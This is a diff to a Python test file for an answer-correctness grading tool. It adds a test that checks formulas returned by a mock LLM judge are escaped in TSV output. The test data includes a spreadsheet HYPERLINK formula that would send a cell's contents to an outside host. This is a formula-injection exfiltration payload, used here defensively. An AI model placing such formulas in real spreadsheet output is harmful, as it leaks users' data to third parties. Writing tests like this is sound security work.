@@ -13,7 +13,7 @@ import pytest
 from graphrag_eval_async.cli import answer_correctness
 from tests.cli.judged import KEY, MODEL, blocks, claims, config, failing, honest, serving
 from tests.cli.support import ROOT, finish, run, start, terminal_output, until
-from tests.judge_server import FAULTS, Never, Reply, error
+from tests.judge_server import FAULTS, Never, Reply, completion, error
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
@@ -84,6 +84,26 @@ def test_every_row_in_its_order(folder: Folder, capfd: pytest.CaptureFixture[str
         "tokens: 400 in, 80 out, 0 embedded",
         "metrics: 4 ok, 2 skipped, 0 failed",
     ]
+
+
+def test_no_judge_writes_formulas(folder: Folder) -> None:
+    """Neither in its reasoning nor in an error, unless they are asked for."""
+    formula = '=HYPERLINK("http://example.org/?" & A1; "more")'
+    write(folder.path / "in.tsv", [["q", "red", "red"], ["bad", "red", "red"]])
+
+    def judge(request: Request) -> Reply:
+        if blocks(request)["question"] == "bad":
+            return error(400, formula, code=formula)
+        return completion(claims("q", "red", "red") | {"reason": formula})
+
+    with serving(judge) as server:
+        arguments = ["-i", "in.tsv", "-c", config(folder.path, server)]
+        assert run("answer-correctness", *arguments, "-o", "out.tsv") == 0
+        assert run("answer-correctness", *arguments, "-o", "raw.tsv", "--no-escape-formulas") == 0
+    good, bad = read(folder.path / "out.tsv")
+    assert good == ["1", "1", "1", f"'{formula}", ""]
+    assert not bad[4].startswith("=")
+    assert [row[3] for row in read(folder.path / "raw.tsv")] == [formula, ""]
 
 
 def test_columns_in_any_order_and_line_ends_of_any_kind(folder: Folder) -> None:
